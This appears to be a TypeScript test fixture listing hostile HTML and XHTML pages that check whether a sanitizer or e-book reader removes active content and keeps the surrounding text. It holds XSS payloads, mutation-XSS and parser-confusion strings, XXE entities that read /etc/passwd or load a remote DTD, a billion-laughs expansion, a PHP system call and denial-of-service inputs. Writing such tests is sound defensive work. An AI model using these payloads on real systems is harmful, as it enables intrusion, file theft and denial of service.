import type { HostileCase } from './hostile-case.ts';

const X = 'https://x.invalid';

/** A page with a paragraph before and after what is hostile. */
function page(hostile: string): string {
  return `<!DOCTYPE html><html><head><title>Page</title></head><body>\n<p>Before.</p>\n${hostile}\n<p>After.</p></body></html>`;
}

const AROUND = ['Before.', 'After.'];

function pageCase(
  name: string,
  hostile: string | (() => string),
  more: Partial<HostileCase> = {},
): HostileCase {
  const content = typeof hostile === 'string' ? page(hostile) : () => page(hostile());
  return { name, stories: { 'story.html': content }, keeps: AROUND, drops: ['alert('], ...more };
}

function xhtml(doctype: string, body: string): string {
  return `<?xml version="1.0" encoding="utf-8"?>\n${doctype}\n<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Page</title></head><body><p>Before.</p>${body}<p>After.</p></body></html>`;
}

function xhtmlCase(
  name: string,
  doctype: string,
  body: string,
  more: Partial<HostileCase> = {},
): HostileCase {
  return { name, stories: { 'story.xhtml': xhtml(doctype, body) }, keeps: AROUND, ...more };
}

const LAUGHS = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY lol${String(index + 1)} "${`&lol${String(index)};`.repeat(10)}">`,
).join('\n');

/** Pages that try to do something, reach something or break something. */
export const HOSTILE_PAGES: readonly HostileCase[] = [
  pageCase('a script', '<script>alert(1)</script>'),
  pageCase('a script from elsewhere', `<script src="${X}/a.js" async></script>`),
  pageCase('a script of modules', `<script type="module">import "${X}/a.js"; alert(1)</script>`),
  pageCase(
    'a script nobody closed in an attribute',
    '<p title="<script>alert(1)</script>">Said.</p>',
    {
      keeps: [...AROUND, 'Said.'],
    },
  ),
  pageCase(
    'event handlers',
    `<p onclick="alert(1)" ONMOUSEOVER=alert(1) onfocus='alert(1)' autofocus tabindex=1>Said.</p><body onload=alert(1)><details open ontoggle=alert(1)>More.</details><marquee onstart=alert(1)>Slow.</marquee>`,
    { keeps: [...AROUND, 'Said.', 'More.', 'Slow.'] },
  ),
  pageCase('a link to a script', '<p><a href="javascript:alert(1)">Come.</a></p>', {
    keeps: [...AROUND, 'Come.'],
  }),
  pageCase(
    'links to scripts in disguise',
    '<p><a href=" &#1;java&#x09;script&colon;alert(1)">One.</a> <a href="JaVaScRiPt:alert(1)">Two.</a> <a href="vbscript:msgbox(1)">Three.</a> <a href="data:text/html,<script>alert(1)</script>">Four.</a></p>',
    { keeps: [...AROUND, 'One. Two. Three. Four.'] },
  ),
  pageCase('a link that reports', `<p><a href="${X}/" ping="${X}/ping" target=_top>Come.</a></p>`, {
    keeps: [...AROUND, 'Come.'],
    drops: ['x.invalid'],
  }),
  pageCase(
    'SVG with a script',
    '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>drawn</text></a><use href="data:image/svg+xml,x#y"/><animate attributeName=href values="javascript:alert(1)"/></svg>',
  ),
  pageCase(
    'SVG with a page in it',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe><p>In it.</p></foreignObject></svg>',
  ),
  pageCase(
    'MathML with links',
    '<math href="javascript:alert(1)"><mtext><style><img src=x onerror=alert(1)></style></mtext><maction actiontype="statusline#http://x.invalid" xlink:href="javascript:alert(1)">x</maction></math>',
  ),
  pageCase(
    'frames',
    `<iframe src="${X}/"></iframe><iframe srcdoc="<script>alert(1)</script>">Else.</iframe><noframes>None.</noframes><portal src="${X}/"></portal>`,
    { drops: ['alert(', 'x.invalid'] },
  ),
  {
    name: 'a page of frames',
    stories: {
      'story.html': `<html><frameset cols=50%,*><frame src="${X}/"><frame src="javascript:alert(1)"></frameset></html>`,
    },
    isBook: false,
    tells: ['read-empty', 'story-without-words'],
  },
  pageCase(
    'objects',
    `<object data="${X}/a.swf" type="application/x-shockwave-flash"><param name=x value="javascript:alert(1)">Get it.</object><embed src="${X}/a.pdf"><applet code="A.class" archive="${X}/a.jar"></applet>`,
    { drops: ['alert(', 'x.invalid'] },
  ),
  pageCase(
    'a form',
    `<form action="${X}/" method=post><input name=q value="alert(1)"><input type=image src="${X}/x.png"><textarea>alert(1)</textarea><select><option>alert(1)</select><button formaction="javascript:alert(1)">Go</button></form><isindex prompt="Who?" action="${X}/">`,
  ),
  pageCase(
    'a refresh',
    `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv=set-cookie content=a>`,
  ),
  pageCase(
    'a base elsewhere',
    `<base href="${X}/" target=_top><p><img src="a.png" alt="not there"><a href=b>Come.</a></p>`,
    {
      tells: ['image-missing'],
      drops: ['x.invalid', 'not there'],
    },
  ),
  pageCase(
    'style sheets that load',
    `<style>@import url(${X}/a.css); p { background: url(${X}/b.png); width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(${X}/x#y) } @font-face { src: url(${X}/f.woff) }</style><link rel=stylesheet href="${X}/a.css"><p style="background:url('javascript:alert(1)');list-style-image:url(${X}/c.png)">Said.</p>`,
    { keeps: [...AROUND, 'Said.'], drops: ['alert(', 'x.invalid'] },
  ),
  pageCase('a style sheet that nobody closed', '<p>Said.</p><style>p { color: red', {
    keeps: ['Before.', 'Said.'],
  }),
  pageCase(
    'a style sheet that hides all and shows one',
    '<style>p{display:none}</style><p>Said.</p>',
    {
      keeps: ['Said.'],
      tells: ['read-hidden-story'],
    },
  ),
  pageCase(
    'hints to load',
    `<link rel=prefetch href="${X}/"><link rel=dns-prefetch href="//x.invalid"><link rel=preload as=image href="${X}/a.png"><link rel=manifest href="${X}/m"><link rel=import href="${X}/i">`,
    {
      drops: ['x.invalid'],
    },
  ),
  pageCase(
    'sound and film',
    `<audio src="${X}/a.mp3" autoplay onerror=alert(1)></audio><video poster="${X}/p.png"><source src="${X}/v.mp4" onerror=alert(1)><track src="${X}/t.vtt">No film.</video>`,
    {
      drops: ['alert(', 'x.invalid'],
    },
  ),
  pageCase(
    'a canvas and a template',
    '<canvas>alert(1)</canvas><template shadowrootmode=open><script>alert(1)</script><p>alert(1)</p></template><slot onslotchange=alert(1)>Slot.</slot>',
    {
      keeps: [...AROUND, 'Slot.'],
    },
  ),
  pageCase(
    'a huge attribute',
    () => `<p class="${'x'.repeat(5_000_000)}" title="${'y'.repeat(5_000_000)}">Said.</p>`,
    {
      keeps: [...AROUND, 'Said.'],
      isHeavy: true,
    },
  ),
  pageCase(
    'thousands of attributes',
    () =>
      `<p ${Array.from({ length: 20_000 }, (_, index) => `a${String(index)}=1`).join(' ')}>Said.</p>`,
    { tells: ['read-tangled'], isBook: false, isHeavy: true },
  ),
  pageCase(
    'thousands of classes',
    () =>
      `<p class="${Array.from({ length: 30_000 }, (_, index) => `c${String(index)}`).join(' ')}">Said.</p>`,
    {
      keeps: [...AROUND, 'Said.'],
      isHeavy: true,
    },
  ),
  pageCase('deep nesting', () => `${'<div>'.repeat(15_000)}Deep.${'</div>'.repeat(15_000)}`, {
    keeps: [...AROUND, 'Deep.'],
    isHeavy: true,
  }),
  pageCase('nesting without a ground', () => '<div>'.repeat(200_000), {
    tells: ['read-tangled'],
    isBook: false,
    isHeavy: true,
  }),
  pageCase('deep tables', () => `${'<table><tr><td>'.repeat(3000)}Deep.`, {
    keeps: ['Before.', 'Deep.'],
    isHeavy: true,
  }),
  pageCase('deep lists and quotations', () => `${'<ul><li><blockquote>'.repeat(2000)}Deep.`, {
    keeps: ['Before.', 'Deep.'],
    isHeavy: true,
  }),
  pageCase('deep markup', () => `<p>${'<b><i><font color=red>'.repeat(5000)}Deep.</p>`, {
    keeps: ['Before.', 'Deep.'],
    isHeavy: true,
  }),
  pageCase('markup left open in every paragraph', () => '<p><b><i><u>x'.repeat(20_000), {
    tells: ['read-tangled'],
    isBook: false,
    isHeavy: true,
  }),
  pageCase(
    'tags that are closed crosswise',
    '<p><b>One <i>two</b> three</i> <u><p>four</u></b></i></p></div></table></html>',
    {
      keeps: [...AROUND, 'One two three', 'four'],
    },
  ),
  pageCase('tags that end nowhere', '<p>Said.</p><p <b <i class="x" <script>alert(1)</script', {
    keeps: ['Before.', 'Said.'],
    drops: [],
  }),
  pageCase(
    'null bytes in tags',
    '<scr\0ipt>alert(1)</scr\0ipt><img src="x\0.png" on\0error=alert(1)><p>Sa\0id.</p>',
    {
      drops: [],
      tells: ['image-missing'],
    },
  ),
  xhtmlCase(
    'a billion laughs',
    `<!DOCTYPE html [\n<!ENTITY lol0 "lol">\n${LAUGHS}\n]>`,
    '<p>&lol9;</p>',
    {
      drops: ['lollol'],
    },
  ),
  xhtmlCase(
    'an entity as long as a book, many times',
    `<!DOCTYPE html [<!ENTITY a "${'long '.repeat(1000)}">]>`,
    `<p>${'&a;'.repeat(1000)}</p>`,
  ),
  xhtmlCase(
    'an entity from a file',
    '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<p>&xxe;</p>',
    {
      drops: ['root:'],
    },
  ),
  xhtmlCase(
    'an entity from elsewhere',
    `<!DOCTYPE html [<!ENTITY % remote SYSTEM "${X}/evil.dtd"> %remote; <!ENTITY xxe PUBLIC "x" "${X}/">]>`,
    '<p>&xxe; &send;</p>',
  ),
  xhtmlCase(
    'a DTD from elsewhere',
    `<!DOCTYPE html SYSTEM "${X}/evil.dtd">`,
    '<p>&nbsp;&eacute;</p>',
    {
      drops: ['x.invalid'],
    },
  ),
  xhtmlCase(
    'an inclusion',
    '',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    {
      drops: ['root:'],
    },
  ),
  xhtmlCase(
    'elements of another name',
    '',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script><svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg:svg>',
    {
      drops: [],
    },
  ),
  pageCase(
    'instructions',
    `<?xml-stylesheet href="javascript:alert(1)"?><?php system("id") ?><? alert(1) ?><% alert(1) %>`,
    {
      drops: ['system('],
    },
  ),
  pageCase(
    'CDATA',
    '<![CDATA[<script>alert(1)</script>]]><svg><![CDATA[<script>alert(1)</script>]]></svg>',
    {
      drops: [],
    },
  ),
  pageCase(
    'conditional comments',
    '<!--[if IE]><script>alert(1)</script><p>alert(1)</p><![endif]--><![if !IE]><p>Said.</p><![endif]>',
    {
      keeps: [...AROUND, 'Said.'],
    },
  ),
  pageCase(
    'comments that end early',
    '<!--><script>alert(1)</script>--><!-- x --!><img src=x onerror=alert(1)><!-- > <p>-->',
    {
      drops: [],
      tells: ['image-missing'],
    },
  ),
  pageCase(
    'what parsers see differently',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><style><a title="</style><img src=y onerror=alert(1)>"></style><textarea><a title="</textarea><script>alert(1)</script>">',
    {
      keeps: ['Before.'],
      drops: [],
    },
  ),
  pageCase(
    'what changes when it is parsed again',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></style></mglyph></table></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    {
      keeps: ['Before.'],
      drops: [],
    },
  ),
  pageCase(
    'text that looks like markup',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &lt;img src=x onerror=alert(1)&gt;</p>',
    {
      keeps: [...AROUND],
      drops: [],
    },
  ),
  pageCase(
    'raw text',
    '<xmp><script>alert(1)</script></xmp><listing><b>Said.</b></listing><plaintext><script>alert(1)</script>',
    {
      keeps: ['Before.'],
      drops: [],
    },
  ),
  pageCase(
    'references to what is no character',
    '<p>One&#0; two&#xD800; three&#x1F; four&#xFFFF; five&#x110000; six&#x99999999999; seven&#128; eight.</p>',
    {
      keeps: [...AROUND, 'eight.'],
      tells: ['normalize-replacement-character'],
    },
  ),
  pageCase(
    'names that objects have',
    '<form name=body><input name=documentElement><input name=querySelector></form><img name=body><a id=constructor name=__proto__>One.</a><p class="__proto__ constructor toString">Two.</p><p id=hasOwnProperty>Three.</p>',
    {
      keeps: [...AROUND, 'Two.', 'Three.'],
    },
  ),
  pageCase(
    'classes that objects have',
    '<style>.__proto__{font-style:italic}.constructor{font-weight:bold}.toString{display:none}</style><p class=__proto__>One.</p><p class=constructor>Two.</p><p class=valueOf>Three.</p>',
    {
      keeps: [...AROUND, 'One.', 'Two.', 'Three.'],
    },
  ),
  pageCase(
    'things to fill in and to fold',
    '<p contenteditable=true>Said.</p><dialog open><script>alert(1)</script>Sure?</dialog><div popover>Pop.</div><menu type=context><menuitem onclick=alert(1)></menu>',
    {
      keeps: [...AROUND, 'Said.'],
    },
  ),
  {
    name: 'an archive’s page with hostile facts',
    stories: {
      'story.html':
        '<html><head><title>x</title></head><body><div id="preface"><p class="message">Posted</p><div class="meta"><dl class="tags"><dt>Rating:</dt><dd><a href="javascript:alert(1)">"&gt;&lt;script&gt;alert(1)&lt;/script&gt;</a></dd><dt>Archive Warning:</dt><dd>]]&gt;&lt;img src=x onerror=alert(1)&gt;</dd><dt>Language:</dt><dd>en" onload="alert(1)</dd></dl><h1>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; &lt;%= 8191*7 %&gt;</h1><div class="byline">by <a rel="author" href="javascript:alert(1)">&lt;b&gt;Jo&lt;/b&gt;</a></div></div></div><div id="chapters" class="userstuff"><p>Before.</p></div></body></html>',
    },
    keeps: ['Before.'],
    tells: ['rating-unknown'],
  },
  {
    name: 'a page that says UTF-7',
    stories: {
      'story.html':
        '<meta charset="utf-7"><p>Before.</p><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>',
    },
    keeps: ['Before.', '+ADw-'],
  },
  {
    name: 'a page that says UTF-16 and is none',
    stories: { 'story.html': '<meta charset="utf-16le"><p>Before.</p><script>alert(1)</script>' },
    keeps: ['Before.'],
    drops: ['alert('],
  },
  {
    name: 'a page that says an encoding nobody has',
    stories: { 'story.html': '<meta charset="../../../etc/passwd"><p>Before.</p>' },
    keeps: ['Before.'],
  },
  {
    name: 'a page in UTF-16 without a mark',
    stories: { 'story.html': Buffer.from('<p>Before.</p><script>alert(1)</script>', 'utf16le') },
    keeps: ['Before.'],
    drops: ['alert('],
  },
  {
    name: 'a page whose tags are written too long in UTF-8',
    stories: {
      'story.html': Buffer.concat([
        Buffer.from('<p>Before.</p>'),
        Uint8Array.of(0xc0, 0xbc),
        Buffer.from('script>alert(1)'),
        Uint8Array.of(0xe0, 0x80, 0xbc),
        Buffer.from('/script>'),
      ]),
    },
    tells: ['read-guessed-encoding'],
    keeps: ['Before.'],
  },
  {
    name: 'a page in Shift JIS whose bytes swallow quotes',
    stories: {
      'story.html': Buffer.concat([
        Buffer.from('<meta charset=shift_jis><p title="'),
        Uint8Array.of(0x82),
        Buffer.from('" onclick="alert(1)">Before.</p>'),
      ]),
    },
    tells: ['read-guessed-encoding'],
    keeps: ['Before.'],
    drops: ['alert('],
  },
  pageCase('40,000 empty paragraphs', () => '<p></p><p>&nbsp;</p>'.repeat(20_000), {
    isHeavy: true,
  }),
  pageCase('50,000 breaks', () => '<br>'.repeat(50_000), { isHeavy: true }),
  pageCase('a line of two million letters', () => `<p>${'word '.repeat(400_000)}</p>`, {
    isHeavy: true,
  }),
  pageCase('20,000 links', () => '<a href="javascript:alert(1)">x</a> '.repeat(20_000), {
    isHeavy: true,
  }),
  pageCase('a megabyte of ampersands', () => '&'.repeat(1_000_000), { isHeavy: true }),
  pageCase('a megabyte of less-than signs', () => '<'.repeat(1_000_000), { isHeavy: true }),
  pageCase('100,000 comments', () => '<!-- x -->'.repeat(100_000), { isHeavy: true }),
  pageCase(
    'a style sheet of 100,000 rules',
    () => `<style>${'.a b > c ~ d:not(.e){font-style:italic}'.repeat(100_000)}</style>`,
    { isHeavy: true },
  ),
];
